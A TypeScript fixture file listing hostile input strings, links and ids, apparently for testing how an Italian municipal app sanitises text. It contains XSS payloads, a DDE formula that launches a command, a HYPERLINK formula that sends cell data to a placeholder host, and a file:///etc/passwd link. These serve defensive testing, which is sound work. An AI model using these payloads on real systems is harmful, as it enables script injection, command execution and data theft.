/** Texts that have harmed programs that trusted them, each with what it tries. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Markup and scripts.
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  '"><iframe src="javascript:alert(1)">',
  "</title></text></svg><script>alert(1)</script>",
  "]]><![CDATA[<b>",
  "&lt;b&gt; &#106; &quot;",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "https://altrove.example/raccoglie?x=1",
  // Formulas of spreadsheets.
  '=HYPERLINK("https://altrove.example/?"&A1;"clicca")',
  "=cmd|' /C calc'!A0",
  "+39 080 1234567",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "'=1",
  // Delimiters.
  'Ente "del" mare; sezione, unica | altra\tcolonna',
  "Prima riga\r\nSeconda riga\nTerza riga",
  "#esempio di ente",
  // What is not seen, or seen in another place.
  "Comune \u202Eadatnemac\u202C di prova",
  "Com\u200Bu\u200Dne\uFEFF invisi\u00ADbile",
  "Соmunе di Вari",
  "Comune\u0000di\u0007controllo",
  "mezza coppia \uD83D qui",
  "danno \uFFFD qui",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034Da\u036B\u0357\u0334\u0362\u0335\u031C\u0330\u0354lgo",
  "بلدية صور على البحر",
  "👩‍👩‍👧‍👦 famiglia 🇮🇹",
  // Length.
  "A".repeat(10_000),
  "Comune di un nome molto lungo ".repeat(333),
  // Names that objects have already.
  "__proto__",
  "constructor",
  "toString",
  "null",
  "undefined",
  "NaN",
  "1e999",
  "0",
  "30/02/2011",
];

/** Addresses to be linked to; only the first four may become links. */
export const HOSTILE_LINKS: readonly string[] = [
  "https://prova.example/?a=1&b=<script>",
  "HTTP://PROVA.example/",
  "mailto:urp@prova.example?subject=%0ABcc:a@b.example",
  "https://xn--bri-8cd.example/",
  "javascript:alert(1)",
  " JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://prova.example/1",
  "//altrove.example/x",
  "https://",
];

/** Ids that every object has something under, and others at the edge of what an id may be. */
export const HOSTILE_IDS: readonly string[] = [
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "-",
  "_",
  "...",
  "-1",
  "0",
  "1e3",
  "null",
  "x".repeat(64),
];
